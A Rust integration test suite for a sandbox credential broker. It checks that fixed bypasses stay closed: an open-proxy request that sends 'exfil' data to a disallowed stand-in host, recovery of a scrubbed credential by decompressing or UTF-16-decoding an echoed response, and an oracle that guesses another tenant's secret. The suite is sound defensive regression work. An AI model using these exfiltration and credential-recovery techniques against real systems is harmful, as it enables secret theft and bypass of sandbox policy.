//! Two ways a sandbox used the broker against its own policy (issue 16, bypasses 3 and
//! 4), performed from inside a sandbox as the attacker would, against upstreams that
//! record what reaches them:
//! - the broker as an open proxy: a handle-less GET to a host the sandbox's policy does
//!   not allow, carrying data in its query, headers and body (or a redirect there);
//! - a credential read back through an encoding the scrubber did not look into: an
//!   upstream echoing the request URL (query credential included) compressed (gzip,
//!   deflate, br, zstd: the test upstream compresses whatever the request asked for),
//!   in UTF-16, or inside a binary file.
//!
//! Everything lives on `lo` in the test's own network namespace; dnsmasq answers the
//! test names.

use hb_tests::{
    TestEnv, private_netns,
    upstream::{Dnsmasq, RecordingServer, TestCa, header},
};
use serde_json::Value;

const DNS_PORT: u16 = 5400;

/// The query credential of integration `q`.
const SECRET: &str = "qUeRy-cred-7a6b5c4d3e2f1a0b9c8d7e6f";

/// The credential of integration `vict`, which only policy `other` is bound to.
const OTHER_TENANT_SECRET: &str = "4821937650-vict-5d6e7f";

/// `allowed.test` (203.0.113.10) is the only name policy `web` reaches; `q.test` on the
/// same address is integration `q`'s host (auth: the `api_key` query parameter);
/// `other.test` (203.0.113.11) is public, and not the policy's.
struct World {
    env: TestEnv,
    allowed: RecordingServer,
    other: RecordingServer,
    _dns: Dnsmasq,
    dir: std::path::PathBuf,
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

impl World {
    /// `extra_broker`: more `[broker]` keys.
    fn new(name: &str, extra_broker: &str) -> Self {
        hb_tests::require_root();
        private_netns(&["203.0.113.10", "203.0.113.11"]);
        let dir = std::env::temp_dir().join(format!("hb-bypass-{name}-{}", std::process::id()));
        let ca = TestCa::new(&dir, "trusted");
        let allowed_cert = ca.issue("allowed", &["allowed.test", "q.test"]);
        let other_cert = ca.issue("other", &["other.test", "203.0.113.11"]);
        let allowed = RecordingServer::start(&dir, "203.0.113.10", 443, Some(&allowed_cert));
        let other = RecordingServer::start(&dir, "203.0.113.11", 443, Some(&other_cert));
        let dns = Dnsmasq::start(
            "127.0.0.1",
            DNS_PORT,
            &[
                ("allowed.test", &["203.0.113.10"]),
                ("q.test", &["203.0.113.10"]),
                ("other.test", &["203.0.113.11"]),
            ],
            &[],
            60,
        );
        let config = format!(
            r#"
[broker]
socket_mode = "0666"
extra_ca_file = "{ca}"
follow_redirects = true
host_policy = "web"
{extra_broker}

[dns]
listen = "127.0.0.1:5300"
upstreams = ["127.0.0.1:{DNS_PORT}"]

[egress]
exception_cidrs = ["203.0.113.0/24"]

[[integration]]
name = "q"
auth = {{ query = "api_key" }}
hosts = ["q.test"]
methods = ["GET"]

[[integration]]
name = "vict"
auth = "bearer"
hosts = ["vict.test"]
methods = ["GET"]

[[policy]]
name = "web"
allow_domains = ["allowed.test"]
integrations = ["q"]

# Another tenant: its credential must tell `web` nothing.
[[policy]]
name = "other"
integrations = ["vict"]
"#,
            ca = ca.cert.display()
        );
        let mut env = TestEnv::new(name, &config);
        let init = env.hb(&["vault", "init"]);
        assert!(
            init.status.success(),
            "{}",
            String::from_utf8_lossy(&init.stderr)
        );
        env.vault_put("q", "bot", SECRET);
        env.vault_put("vict", "bot", OTHER_TENANT_SECRET);
        env.start_agent();
        Self {
            env,
            allowed,
            other,
            _dns: dns,
            dir,
        }
    }

    /// The Python client, its `hb` bound to the broker, then `script`.
    fn script(&self, script: &str) -> String {
        let examples = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/python");
        format!(
            "import sys, json, base64\nsys.path.insert(0, {examples:?})\n\
             from hb_client import Client, BrokerError\nhb = Client({:?})\n\
             def attempt(f):\n    try:\n        return f()\n    except BrokerError as e:\n        \
             return {{\"error\": e.code, \"message\": e.message}}\n{script}",
            self.env.broker_socket().display().to_string()
        )
    }

    /// Runs `script` in a sandbox under policy `web` as user 65534; its JSON output.
    fn in_sandbox(&self, script: &str) -> Value {
        self.in_sandbox_under("web", script)
    }

    /// Runs `script` in a sandbox under `policy` as user 65534; its JSON output.
    fn in_sandbox_under(&self, policy: &str, script: &str) -> Value {
        let script = self.script(script);
        let out = self.env.hb(&[
            "sandbox",
            "run",
            "--policy",
            policy,
            "--user",
            "65534",
            "--",
            hb_tests::python(),
            "-c",
            &script,
        ]);
        parse_output(&out)
    }

    /// Runs `script` outside any sandbox (a host caller, under `broker.host_policy`).
    fn on_host(&self, script: &str) -> Value {
        let out = std::process::Command::new(hb_tests::python())
            .args(["-c", &self.script(script)])
            .output()
            .expect("python3");
        parse_output(&out)
    }
}

fn parse_output(out: &std::process::Output) -> Value {
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "client failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("client JSON ({e}): {text}"))
}

/// A handle-less request goes no further than the caller's own policy: not to another
/// public name, not to an address outside its `allow_cidrs`, not through a redirect,
/// and never with a body. Fails on the old broker, which sent all of it to other.test.
#[test]
fn a_sandbox_cannot_use_the_broker_to_reach_hosts_its_policy_does_not() {
    let w = World::new("bypass-proxy", "");
    let attack = r#"
exfil = "exfil-4f3e2d1c"
out = {}
out["other"] = attempt(lambda: hb.request("GET", "https://other.test/leak?data=" + exfil,
    headers={"X-Exfil": exfil}, body=exfil))
out["other_no_body"] = attempt(lambda: hb.request("GET", "https://other.test/leak?data=" + exfil,
    headers={"X-Exfil": exfil}))
out["other_ip"] = attempt(lambda: hb.request("GET", "https://203.0.113.11/leak?data=" + exfil))
out["other_head"] = attempt(lambda: hb.request("HEAD", "https://OTHER.test./leak?data=" + exfil))
out["redirect"] = attempt(lambda: hb.request("GET",
    "https://allowed.test/redirect?to=https://other.test/hop?data=" + exfil))
out["allowed"] = attempt(lambda: hb.request("GET", "https://allowed.test/ok?x=1", headers={"X-A": "1"}))
out["allowed_body"] = attempt(lambda: hb.request("GET", "https://allowed.test/with-body", body=exfil))
out["allowed_body64"] = attempt(lambda: hb.request("GET", "https://allowed.test/with-body",
    body_base64=base64.b64encode(exfil.encode()).decode()))
print(json.dumps(out))
"#;
    let got = w.in_sandbox(attack);
    let host = w.on_host(attack);

    // Nothing reached the host the policy does not allow: no request, no byte of data.
    let at_other = w.other.requests();
    assert!(
        at_other.is_empty(),
        "the broker carried requests to other.test: {at_other:?}"
    );
    for (who, got) in [("sandbox", &got), ("host caller", &host)] {
        for key in [
            "other",
            "other_no_body",
            "other_ip",
            "other_head",
            "redirect",
        ] {
            assert_eq!(got[key]["error"], "policy_denied", "{who} {key}: {got}");
        }
        let message = got["other_no_body"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("allow_domains"), "{who}: {message}");
        // The allowed name works; a body is refused, and the error says why.
        assert_eq!(got["allowed"]["status"], 200, "{who}: {got}");
        for key in ["allowed_body", "allowed_body64"] {
            assert_eq!(got[key]["error"], "policy_denied", "{who} {key}: {got}");
            let message = got[key]["message"].as_str().unwrap_or_default();
            assert!(message.contains("body"), "{who} {key}: {message}");
        }
    }
    let at_allowed = w.allowed.requests();
    let paths: Vec<&str> = at_allowed
        .iter()
        .filter_map(|r| r["path"].as_str())
        .collect();
    assert!(
        !paths.iter().any(|p| p.starts_with("/with-body")),
        "a body-carrying request was sent: {paths:?}"
    );
    assert_eq!(
        paths.iter().filter(|p| p.starts_with("/ok")).count(),
        2,
        "{paths:?}"
    );
    // Each refusal is audited, and the reach ones are events too.
    let audit = std::fs::read_to_string(w.env.state_dir.join("audit.log")).expect("audit log");
    for want in [
        "no handle: host",
        "no handle: body",
        "broker_host_not_in_policy",
    ] {
        assert!(audit.contains(want), "audit log lacks {want:?}");
    }
    assert!(
        !audit.contains("exfil-4f3e2d1c"),
        "the query reached the audit log"
    );
}

/// What the attacker does with each answer: every decoding it could try (base64,
/// gzip/zlib/raw deflate, brotli, zstd, UTF-16), its results hex-encoded, so the test
/// can search all of them for the credential.
const RECOVER: &str = r#"
import gzip, zlib, brotli, zstandard
def recover(resp):
    if "error" in resp:
        return {"error": resp["error"], "message": resp["message"], "forms": []}
    raw = resp["body"].encode("utf-8") if "body" in resp else base64.b64decode(resp["body_base64"])
    forms = [raw, json.dumps(resp["headers"]).encode()]
    for f in (gzip.decompress, zlib.decompress, lambda b: zlib.decompress(b, -15),
              brotli.decompress, lambda b: zstandard.ZstdDecompressor().decompress(b, max_output_size=1 << 20)):
        try:
            forms.append(f(raw))
        except Exception:
            pass
    for enc in ("utf-16", "utf-16-le", "utf-16-be"):
        forms.append(raw.decode(enc, errors="ignore").encode("utf-8"))
    return {"status": resp["status"], "body": resp.get("body"), "headers": resp["headers"],
            "forms": [f.hex() for f in forms]}
"#;

/// A handle's credential never comes back to the caller, whatever encoding the
/// upstream's echo of it takes. Fails on the old broker, which forwarded
/// `Accept-Encoding`, returned the compressed bytes unscrubbed as `body_base64`, and
/// did not look for the credential in UTF-16.
#[test]
fn a_credential_echoed_compressed_or_in_utf16_never_reaches_the_caller() {
    let w = World::new("bypass-encoding", "");
    let script = format!(
        r#"{RECOVER}
q = hb.handle("q", "bot")["handle"]
out = {{}}
ask = {{"Accept-Encoding": "gzip, deflate, br, zstd", "TE": "gzip"}}
for enc in ["", "gzip", "deflate", "br", "zstd", "utf-16le", "utf-16be", "binary"]:
    out[enc or "plain"] = recover(attempt(lambda: hb.request("GET", "https://q.test/self?enc=" + enc,
        handle=q, headers=ask)))
print(json.dumps(out))
"#
    );
    let got = w.in_sandbox(&script);

    // The credential never came back in any form the caller could decode (the attack).
    let wanted: Vec<Vec<u8>> = vec![
        SECRET.as_bytes().to_vec(),
        SECRET.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        SECRET.encode_utf16().flat_map(u16::to_be_bytes).collect(),
    ];
    let mut leaked = Vec::new();
    for (enc, answer) in got.as_object().expect("answers") {
        let forms = answer["forms"].as_array().expect("forms");
        let found = forms
            .iter()
            .map(|f| unhex(f.as_str().expect("hex")))
            .any(|bytes| {
                wanted
                    .iter()
                    .any(|secret| bytes.windows(secret.len()).any(|w| w == &secret[..]))
            });
        if found {
            leaked.push(enc.as_str());
        }
    }
    assert!(
        leaked.is_empty(),
        "the credential came back to the caller, encoded as: {leaked:?}"
    );
    let text = got.to_string();
    assert!(!text.contains(SECRET), "{text}");
    // It did reach the upstream (the broker injected it), which was asked for identity
    // encoding whatever the caller wanted.
    let at_q: Vec<Value> = w
        .allowed
        .requests()
        .into_iter()
        .filter(|r| r["path"].as_str().is_some_and(|p| p.starts_with("/self")))
        .collect();
    assert_eq!(at_q.len(), 8, "{at_q:?}");
    for r in &at_q {
        assert!(
            r["path"]
                .as_str()
                .is_some_and(|p| p.contains(&format!("api_key={SECRET}"))),
            "{r}"
        );
        assert_eq!(header(r, "accept-encoding"), Some("identity"), "{r}");
        assert_eq!(header(r, "te"), None, "{r}");
    }

    // Compressed and UTF-16 answers were decoded and redacted, not refused.
    for enc in [
        "plain", "gzip", "deflate", "br", "zstd", "utf-16le", "utf-16be",
    ] {
        assert_eq!(got[enc]["status"], 200, "{enc}: {}", got[enc]);
        let redacted = got[enc]["forms"]
            .as_array()
            .expect("forms")
            .iter()
            .any(|f| {
                String::from_utf8_lossy(&unhex(f.as_str().expect("hex"))).contains("REDACTED")
            });
        assert!(redacted, "{enc}: no redaction marker: {}", got[enc]);
    }
    for enc in ["gzip", "deflate", "br", "zstd"] {
        assert!(
            got[enc]["body"]
                .as_str()
                .is_some_and(|b| b.contains("\"self\"")),
            "{enc}: decoded to text: {}",
            got[enc]
        );
    }
    // The "self" link in the response headers was scrubbed as well.
    for name in ["location", "link"] {
        let value = got["plain"]["headers"][name].as_str().unwrap_or_default();
        assert!(
            value.contains("[REDACTED:") && value.contains("q.test/self"),
            "{name}: {value}"
        );
    }
    // A binary body on a credentialed call is refused by default.
    assert_eq!(
        got["binary"]["error"], "unreadable_response",
        "{}",
        got["binary"]
    );
}

/// `broker.allow_binary_responses = true` lets a binary body through to a credentialed
/// call (the documented risk: here it is the gzip file holding the echoed credential);
/// compressed-encoding and text answers are still decoded and scrubbed.
#[test]
fn binary_bodies_reach_credentialed_callers_only_with_the_switch_on() {
    let w = World::new("bypass-binary-on", "allow_binary_responses = true");
    let got = w.in_sandbox(
        r#"
q = hb.handle("q", "bot")["handle"]
out = {}
for enc in ["binary", "gzip"]:
    out[enc] = attempt(lambda: hb.request("GET", "https://q.test/self?enc=" + enc, handle=q))
print(json.dumps(out))
"#,
    );
    assert_eq!(got["binary"]["status"], 200, "{got}");
    assert!(got["binary"]["body_base64"].is_string(), "{got}");
    assert!(
        got["gzip"]["body"]
            .as_str()
            .is_some_and(|b| b.contains("[REDACTED:") && !b.contains(SECRET)),
        "{got}"
    );
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).expect("hex"))
        .collect()
}

/// An upstream that echoes what the caller sent is an oracle if answers are scrubbed
/// with every live value on the node: a guess that comes back
/// `[REDACTED:live_secret]` is another tenant's credential. The reviewer's attack found
/// a ten-digit secret in 77 requests. A sandbox's answers are scrubbed with its own
/// view (the families, its own handles and their credentials), so a right guess comes
/// back exactly as a wrong one does: as the caller sent it. Fails on the old broker.
#[test]
fn another_tenants_credential_cannot_be_guessed_through_an_echoing_upstream() {
    let w = World::new("bypass-oracle", "");
    // The other tenant uses its credential, so the broker holds it decrypted.
    let victim = w.in_sandbox_under(
        "other",
        r#"print(json.dumps(attempt(lambda: {"handle": hb.handle("vict", "bot")["handle"]})))"#,
    );
    assert!(
        victim["handle"]
            .as_str()
            .is_some_and(|h| h.starts_with("hb_cred_")),
        "{victim}"
    );
    let attack = format!(
        r#"
out = {{}}
for name, guess in (("right", {OTHER_TENANT_SECRET:?}), ("wrong", "4821937651-vict-5d6e7f")):
    out[name] = attempt(lambda: hb.request("GET", "https://allowed.test/self?guess=" + guess))
# With a handle of its own too: the injected credential is its own, the other tenant's is not.
q = hb.handle("q", "bot")["handle"]
out["right_with_handle"] = attempt(lambda: hb.request("GET",
    "https://q.test/self?guess=" + {OTHER_TENANT_SECRET:?}, handle=q))
print(json.dumps(out))
"#
    );
    let got = w.in_sandbox(&attack);
    let right = got["right"]["body"].as_str().unwrap_or_default();
    let wrong = got["wrong"]["body"].as_str().unwrap_or_default();
    assert!(
        wrong.contains("4821937651-vict-5d6e7f"),
        "the echo upstream did not echo: {got}"
    );
    assert!(
        right.contains(OTHER_TENANT_SECRET) && !right.contains("REDACTED"),
        "a right guess was answered differently from a wrong one: {got}"
    );
    assert_eq!(
        right.replace(OTHER_TENANT_SECRET, "GUESS"),
        wrong.replace("4821937651-vict-5d6e7f", "GUESS"),
        "the two answers differ beyond the guess itself"
    );
    let with_handle = got["right_with_handle"]["body"]
        .as_str()
        .unwrap_or_default();
    assert!(
        with_handle.contains(OTHER_TENANT_SECRET) && !with_handle.contains(SECRET),
        "with a handle: the guess must come back as sent and the caller's own injected \
         credential redacted: {got}"
    );
}
